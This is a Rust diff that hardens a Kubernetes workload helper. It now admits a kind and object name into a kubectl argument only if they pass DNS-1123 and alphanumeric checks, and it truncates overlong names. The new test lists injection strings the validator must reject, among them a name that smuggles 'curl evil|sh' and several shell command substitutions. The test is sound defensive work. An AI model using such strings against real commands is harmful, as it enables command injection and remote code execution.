@@ -33,7 +33,8 @@ impl Workload {
             Some(deployment) => ("Deployment", deployment),
             None => (owner.kind.as_str(), owner.name.as_str()),
         };
-        Some(Self { namespace, maker: Maker::Controller(kind.to_owned()), name: name.to_owned() })
+        // Whoever makes a pod writes them, as long as they like.
+        Some(Self { namespace, maker: Maker::Controller(shortened(kind)), name: shortened(name) })
     }
 
     /// Whether nobody makes it anew.
@@ -46,12 +47,33 @@ impl Workload {
         matches!(&self.maker, Maker::Controller(kind) if matches!(kind.as_str(), "Deployment" | "StatefulSet"))
     }
 
-    /// Its kind as kubectl takes it.
-    pub(super) fn resource(&self) -> String {
-        match &self.maker {
+    /// Its kind and its name as kubectl takes them, if they can be those of an object: nothing checks an owner reference.
+    pub(super) fn as_argument(&self) -> Option<String> {
+        let resource = match &self.maker {
             Maker::Controller(kind) => kind.to_lowercase(),
             Maker::Nobody => "pod".to_owned(),
-        }
+        };
+        let is_kind = !resource.is_empty() && resource.bytes().all(|b| b.is_ascii_alphanumeric());
+        (is_kind && is_dns_name(&self.name)).then(|| format!("{resource} {}", self.name))
+    }
+}
+
+/// Whether it is a DNS-1123 subdomain, as the names of objects are.
+fn is_dns_name(name: &str) -> bool {
+    let is_label = |label: &str| {
+        let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-';
+        !label.is_empty() && label.bytes().all(is_inner) && !label.starts_with('-') && !label.ends_with('-')
+    };
+    name.len() <= LONGEST && name.split('.').all(is_label)
+}
+
+/// The longest name of an object.
+const LONGEST: usize = 253;
+
+fn shortened(text: &str) -> String {
+    match text.char_indices().nth(LONGEST) {
+        Some((end, _)) => format!("{}…", &text[..end]),
+        None => text.to_owned(),
     }
 }
 
@@ -90,5 +112,23 @@ mod tests {
         assert_eq!(of(&owner("ReplicaSet", "web")), "ReplicaSet shop/web", "made by hand");
         assert_eq!(of(&owner("StatefulSet", "db")), "StatefulSet shop/db");
         assert_eq!(of(&json!([])), "pod shop/web-5d4f-x");
+    }
+
+    #[test]
+    fn only_what_can_be_an_objects_kind_and_name_stands_in_a_command() {
+        let argument = |kind: &str, name: &str| {
+            let maker = Maker::Controller(kind.to_owned());
+            Workload { namespace: "shop".to_owned(), maker, name: name.to_owned() }.as_argument()
+        };
+        assert_eq!(argument("StatefulSet", "db-0.main").as_deref(), Some("statefulset db-0.main"));
+        for name in ["x; curl evil|sh #", "$(id)", "`id`", "x\u{1b}[2J", "-rf", "a..b", "Db", "", "x\ny", "ü"] {
+            assert_eq!(argument("StatefulSet", name), None, "{name:?}");
+        }
+        for kind in ["x;id", "", "a b", "$(id)"] {
+            assert_eq!(argument(kind, "db"), None, "{kind:?}");
+        }
+        let endless =
+            json!([{"apiVersion": "v1", "kind": "x", "name": "y".repeat(1_000_000), "uid": "u", "controller": true}]);
+        assert!(of(&endless).len() < 300);
     }
 }
